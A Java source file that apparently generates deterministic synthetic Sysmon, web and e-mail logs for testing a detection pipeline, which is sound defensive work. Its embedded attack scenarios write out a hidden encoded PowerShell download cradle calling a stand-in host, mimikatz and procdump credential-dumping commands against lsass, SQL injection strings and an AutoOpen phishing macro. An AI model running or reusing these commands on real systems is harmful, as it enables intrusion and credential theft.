package io.centinela.demo;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/**
 * The project's own event stream for the demo and the benchmark: Windows/Sysmon (evtx JSON), web (ECS) and
 * e-mail (ECS) background with embedded attack scenarios. Seedable and deterministic: the same seed and count
 * give byte-identical events.
 *
 * <p>Scenarios: an encoded PowerShell download cradle (Office parent), credential dumping (lsass access, procdump
 * -ma lsass, mimikatz sekurlsa), web SQL injection, and a phishing e-mail whose attachment carries base64 content
 * (the EICAR test string inside a macro-document-like payload) so YARA sees it.
 */
public final class EventGenerator {

    public static final String SYSMON = "sysmon";
    public static final String WEB = "web";
    public static final String EMAIL = "email";
    public static final List<String> TOPICS = List.of(SYSMON, WEB, EMAIL);

    /** One generated record: its topic, JSON bytes, and the scenario it belongs to (null for background). */
    public record Generated(String topic, byte[] value, String scenario) {
    }

    public static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Instant BASE = Instant.parse("2026-01-15T09:00:00Z");
    private static final String[] HOSTS = {"WS-FIN-014.corp.example", "WS-HR-003.corp.example", "WS-DEV-021.corp.example",
            "SRV-FILE-01.corp.example", "WS-SALES-007.corp.example"};
    private static final String[] USERS = {"CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\dave", "CORP\\erin"};
    private static final String[][] BENIGN_PROCS = {
            {"C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\services.exe"},
            {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US", "C:\\Windows\\explorer.exe"},
            {"C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\alice\\Documents\\notes.txt", "C:\\Windows\\explorer.exe"},
            {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "C:\\Windows\\explorer.exe"},
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1", "C:\\Windows\\explorer.exe"},
            {"C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "C:\\Windows\\System32\\cmd.exe"}};
    private static final String[] PAGES = {"/", "/index.html", "/products", "/products/item", "/search", "/cart",
            "/static/app.js", "/static/site.css", "/login", "/api/orders"};
    private static final String[] AGENTS = {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
            "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"};

    private final Random random;
    private long ms;
    private long recordId = 100_000;

    public EventGenerator(long seed) {
        this.random = new Random(seed);
    }

    /** {@code count} events; about one scenario per {@code 1/attackRate} events, each scenario type in turn. */
    public List<Generated> generate(int count, double attackRate) {
        List<Generated> out = new ArrayList<>(count);
        int scenarioNo = 0;
        while (out.size() < count) {
            ms += 1 + random.nextInt(40);
            if (random.nextDouble() < attackRate) {
                for (Generated g : scenario(scenarioNo++ % 4)) {
                    if (out.size() < count) {
                        out.add(g);
                    }
                }
                continue;
            }
            double r = random.nextDouble();
            out.add(r < 0.6 ? benignSysmon() : r < 0.9 ? benignWeb() : benignEmail());
        }
        return out;
    }

    private List<Generated> scenario(int which) {
        return switch (which) {
            case 0 -> List.of(powershellCradle());
            case 1 -> credentialDumping();
            case 2 -> List.of(sqlInjection(), sqlInjectionUnion());
            default -> List.of(phishing());
        };
    }

    // ---- background ------------------------------------------------------------------------------------------

    private Generated benignSysmon() {
        String[] p = BENIGN_PROCS[random.nextInt(BENIGN_PROCS.length)];
        ObjectNode data = JSON.createObjectNode();
        data.put("UtcTime", time());
        data.put("ProcessGuid", guid());
        data.put("ProcessId", 1000 + random.nextInt(9000));
        data.put("Image", p[0]);
        data.put("CommandLine", p[1]);
        data.put("CurrentDirectory", "C:\\Windows\\system32\\");
        data.put("User", pick(USERS));
        data.put("IntegrityLevel", "Medium");
        data.put("ParentImage", p[2]);
        data.put("ParentCommandLine", p[2]);
        return new Generated(SYSMON, bytes(sysmon(1, pick(HOSTS), data)), null);
    }

    private Generated benignWeb() {
        String page = pick(PAGES);
        String query = page.equals("/search") ? "q=" + pick(new String[] {"shoes", "red+jacket", "laptop+bag", "gift"})
                : page.equals("/products/item") ? "id=" + (1 + random.nextInt(500)) : null;
        return new Generated(WEB, bytes(web(page, query, 200, "GET")), null);
    }

    private Generated benignEmail() {
        String[] subjects = {"Weekly team sync", "Re: Q1 planning", "Lunch on Friday?", "Updated holiday calendar",
                "Your expense report was approved"};
        return new Generated(EMAIL, bytes(email("colleague" + random.nextInt(40) + "@corp.example",
                pick(subjects), "See you there.", null, null)), null);
    }

    // ---- attack scenarios ------------------------------------------------------------------------------------

    private Generated powershellCradle() {
        String script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a/stage2.ps1')";
        String enc = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        ObjectNode data = JSON.createObjectNode();
        data.put("UtcTime", time());
        data.put("ProcessGuid", guid());
        data.put("ProcessId", 4000 + random.nextInt(1000));
        data.put("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
        data.put("OriginalFileName", "PowerShell.EXE");
        data.put("CommandLine", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + enc);
        data.put("User", pick(USERS));
        data.put("IntegrityLevel", "Medium");
        data.put("ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
        data.put("ParentCommandLine", "\"WINWORD.EXE\" /n \"C:\\Users\\bob\\Downloads\\Invoice_4471.doc\"");
        return new Generated(SYSMON, bytes(sysmon(1, pick(HOSTS), data)), "powershell-download-cradle");
    }

    private List<Generated> credentialDumping() {
        String host = pick(HOSTS);
        ObjectNode access = JSON.createObjectNode();
        access.put("UtcTime", time());
        access.put("SourceProcessGUID", guid());
        access.put("SourceImage", "C:\\Users\\Public\\mimikatz.exe");
        access.put("TargetImage", "C:\\Windows\\system32\\lsass.exe");
        access.put("GrantedAccess", "0x1010");
        access.put("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00000000001A2B3C)");
        access.put("SourceUser", "CORP\\dave");
        ObjectNode procdump = JSON.createObjectNode();
        procdump.put("UtcTime", time());
        procdump.put("ProcessGuid", guid());
        procdump.put("Image", "C:\\Tools\\procdump64.exe");
        procdump.put("OriginalFileName", "procdump");
        procdump.put("CommandLine", "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp");
        procdump.put("User", "CORP\\dave");
        procdump.put("IntegrityLevel", "High");
        procdump.put("ParentImage", "C:\\Windows\\System32\\cmd.exe");
        ObjectNode mimi = JSON.createObjectNode();
        mimi.put("UtcTime", time());
        mimi.put("ProcessGuid", guid());
        mimi.put("Image", "C:\\Users\\Public\\mimikatz.exe");
        mimi.put("CommandLine", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit");
        mimi.put("User", "CORP\\dave");
        mimi.put("IntegrityLevel", "High");
        mimi.put("ParentImage", "C:\\Windows\\System32\\cmd.exe");
        return List.of(new Generated(SYSMON, bytes(sysmon(10, host, access)), "credential-dumping"),
                new Generated(SYSMON, bytes(sysmon(1, host, procdump)), "credential-dumping"),
                new Generated(SYSMON, bytes(sysmon(1, host, mimi)), "credential-dumping"));
    }

    private Generated sqlInjection() {
        return new Generated(WEB, bytes(web("/products/item", "id=1'+OR+'1'='1'--", 200, "GET")), "web-sql-injection");
    }

    private Generated sqlInjectionUnion() {
        return new Generated(WEB, bytes(web("/products/item",
                "id=-1%20UNION%20SELECT%20username,password,3%20FROM%20users--", 500, "GET")), "web-sql-injection");
    }

    private Generated phishing() {
        String payload = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  Dim s As String\r\n"
                + "  s = \"powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/p')\"\r\n"
                + "  CreateObject(\"WScript.Shell\").Run s, 0\r\nEnd Sub\r\n' " + EICAR + "\r\n";
        String b64 = Base64.getEncoder().encodeToString(payload.getBytes(StandardCharsets.ISO_8859_1));
        return new Generated(EMAIL, bytes(email("billing@micros0ft-support.example", "URGENT: Invoice 4471 overdue",
                "Please open the attached invoice and enable content to view it.", "Invoice_4471.doc", b64)), "phishing-attachment");
    }

    // ---- shapes ----------------------------------------------------------------------------------------------

    private ObjectNode sysmon(int eventId, String host, ObjectNode data) {
        ObjectNode root = JSON.createObjectNode();
        ObjectNode event = root.putObject("Event");
        ObjectNode system = event.putObject("System");
        system.putObject("Provider").putObject("#attributes").put("Name", "Microsoft-Windows-Sysmon")
                .put("Guid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
        system.put("EventID", eventId);
        system.put("Version", 5);
        system.put("Level", 4);
        system.putObject("TimeCreated").putObject("#attributes").put("SystemTime", time());
        system.put("EventRecordID", recordId++);
        system.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        system.put("Computer", host);
        event.set("EventData", data);
        return root;
    }

    private ObjectNode web(String path, String query, int status, String method) {
        ObjectNode root = JSON.createObjectNode();
        root.put("@timestamp", time());
        root.putObject("event").put("kind", "event").put("category", "web").put("dataset", "nginx.access");
        root.putObject("source").put("ip", "198.51.100." + (1 + random.nextInt(250)));
        root.putObject("destination").put("ip", "10.0.5.20").put("port", 443);
        ObjectNode url = root.putObject("url");
        url.put("path", path);
        url.put("domain", "shop.corp.example");
        url.put("original", query == null ? path : path + "?" + query);
        if (query != null) {
            url.put("query", query);
        }
        ObjectNode http = root.putObject("http");
        http.put("version", "1.1");
        http.putObject("request").put("method", method);
        http.putObject("response").put("status_code", status).put("bytes", 200 + random.nextInt(20000));
        root.putObject("user_agent").put("original", pick(AGENTS));
        root.putObject("host").put("name", "web-01");
        return root;
    }

    private ObjectNode email(String from, String subject, String body, String attachmentName, String attachmentB64) {
        ObjectNode root = JSON.createObjectNode();
        root.put("@timestamp", time());
        root.putObject("event").put("kind", "event").put("category", "email").put("dataset", "mail.gateway");
        ObjectNode email = root.putObject("email");
        email.putObject("from").putArray("address").add(from);
        email.putObject("to").putArray("address").add(pick(new String[] {"alice", "bob", "carol"}) + "@corp.example");
        email.put("subject", subject);
        email.put("body_text", body);
        email.put("message_id", "<" + guid() + "@mail.example>");
        email.put("direction", "inbound");
        if (attachmentName != null) {
            ArrayNode atts = email.putArray("attachments");
            ObjectNode file = atts.addObject().putObject("file");
            file.put("name", attachmentName);
            file.put("extension", "doc");
            file.put("mime_type", "application/msword");
            file.put("size", attachmentB64.length() * 3 / 4);
            file.put("content", attachmentB64);
        }
        root.putObject("host").put("name", "mx-01");
        return root;
    }

    private String time() {
        return BASE.plusMillis(ms).toString();
    }

    private String guid() {
        return String.format("{%08X-%04X-%04X-%04X-%012X}", random.nextInt(), random.nextInt(0x10000),
                random.nextInt(0x10000), random.nextInt(0x10000), random.nextLong() & 0xFFFFFFFFFFFFL);
    }

    private <T> T pick(T[] values) {
        return values[random.nextInt(values.length)];
    }

    private static byte[] bytes(ObjectNode n) {
        try {
            return JSON.writeValueAsBytes(n);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
